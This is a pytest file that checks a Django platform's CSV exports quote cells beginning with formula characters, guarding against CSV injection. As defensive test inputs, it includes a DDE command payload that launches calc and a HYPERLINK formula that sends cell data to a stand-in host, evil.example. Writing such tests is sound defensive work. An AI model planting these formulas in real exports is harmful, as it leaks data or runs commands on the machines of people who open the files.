"""CSV injection (issue 15, finding 12): no text cell Parley writes reaches a spreadsheet as a formula."""
import csv
import io
import pathlib
import re

import pytest
from django.test import Client
from hypothesis import given, settings as hypothesis_settings, strategies as st

from parley.config.csv_cells import csv_cell_neutralized, csv_cell_restored, csv_writer

PLATFORM = pathlib.Path(__file__).resolve().parents[2] / "platform"


@pytest.mark.parametrize("cell", ["=1+1", "+49 170", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
                                  '=HYPERLINK("http://evil.example/?"&A1,"click")', "'=already quoted"])
def test_formula_cells_are_quoted(cell):
    out = io.StringIO()
    csv_writer(out).writerow(["ok", cell, 3])
    written = next(csv.reader(io.StringIO(out.getvalue())))
    assert written == ["ok", "'" + cell, "3"]


@pytest.mark.parametrize("cell", ["plain", "a=b", "ناقص -", "", "'quoted text", -5, 2.5, None])
def test_other_cells_and_numbers_are_written_as_they_are(cell):
    assert csv_cell_neutralized(cell) == cell


@hypothesis_settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("'=+-@\t\rab ,\"\n"), max_size=12))
def test_what_is_added_is_exactly_what_is_taken_away(cell):
    neutralized = csv_cell_neutralized(cell)
    assert csv_cell_restored(neutralized) == cell
    assert not re.match(r"[=+\-@\t\r]", neutralized)


def test_no_csv_is_written_past_the_shared_writer():
    direct = [str(p.relative_to(PLATFORM)) for p in PLATFORM.rglob("*.py")
              if p.name != "csv_cells.py" and re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert direct == []


def test_coverage_csv_cells_are_neutralized():
    from parley.nlu.reports import coverage_csv

    response = coverage_csv([{"locale": "de-DE", "intent": "=cmd()", "partition": "train", "status": "accepted",
                              "count": -1}], "status")
    assert response.content.decode().splitlines()[1] == "de-DE,'=cmd(),train,accepted,-1"


@pytest.mark.django_db
def test_the_reject_report_quotes_a_hostile_line(admin_user, tmp_path):
    from parley.interchange.services import import_batch_create, import_batch_run

    path = tmp_path / "bad.jsonl"
    path.write_text('=HYPERLINK("http://evil.example","x")\n', encoding="utf-8")
    batch = import_batch_run(batch=import_batch_create(format="massive", path=str(path), actor="t"), actor="t")
    client = Client()
    client.force_login(admin_user)
    report = client.get(f"/api/v1/imports/{batch.pk}/rejects.csv")
    text = b"".join(report.streaming_content if report.streaming else [report.content]).decode()
    excerpt = list(csv.DictReader(io.StringIO(text)))[0]["excerpt"]
    assert excerpt.startswith("'=HYPERLINK(")
